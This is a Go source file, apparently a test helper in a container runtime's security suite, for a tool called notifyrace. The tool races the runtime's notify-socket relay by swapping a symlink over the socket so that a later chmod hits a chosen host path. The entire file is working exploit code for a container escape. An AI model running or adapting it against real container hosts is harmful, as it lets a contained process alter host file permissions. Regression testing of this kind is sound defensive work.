// Command notifyrace attacks `hull start`'s NOTIFY_SOCKET relay from inside a
// container whose /run/notify a CAP_SYS_ADMIN process has remounted read-write: it
// spins until the relay's socket appears in the directory and at once renames a
// symlink to TARGET over it, so that whatever the runtime then does to the socket's
// path by name (a chmod) lands on TARGET, resolved in the runtime's mount namespace
// (the host's). It stops after SECONDS, or once the socket was replaced, and prints
// how many times it replaced it. Built statically and copied into the rootfs.
//
// Usage: notifyrace DIR TARGET SECONDS
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 4 {
		fmt.Fprintln(os.Stderr, "usage: notifyrace DIR TARGET SECONDS")
		os.Exit(2)
	}
	dir, target := os.Args[1], os.Args[2]
	secs, err := strconv.Atoi(os.Args[3])
	if err != nil {
		fmt.Fprintln(os.Stderr, "notifyrace:", err)
		os.Exit(2)
	}
	sock := filepath.Join(dir, "notify.sock")
	link := filepath.Join(dir, ".notifyrace")
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	_ = unix.Unlink(link)
	if err := unix.Symlink(target, link); err != nil {
		fmt.Fprintln(os.Stderr, "notifyrace: symlink:", err)
		os.Exit(1)
	}
	fmt.Println("spinning")
	swaps := 0
	var st unix.Stat_t
	for i := 0; swaps == 0; i++ {
		if i%4096 == 0 && time.Now().After(deadline) {
			break
		}
		if unix.Lstat(sock, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFSOCK {
			continue
		}
		if err := unix.Rename(link, sock); err != nil {
			fmt.Fprintln(os.Stderr, "notifyrace: rename:", err)
			os.Exit(1)
		}
		swaps++
	}
	fmt.Printf("swaps=%d\n", swaps)
}
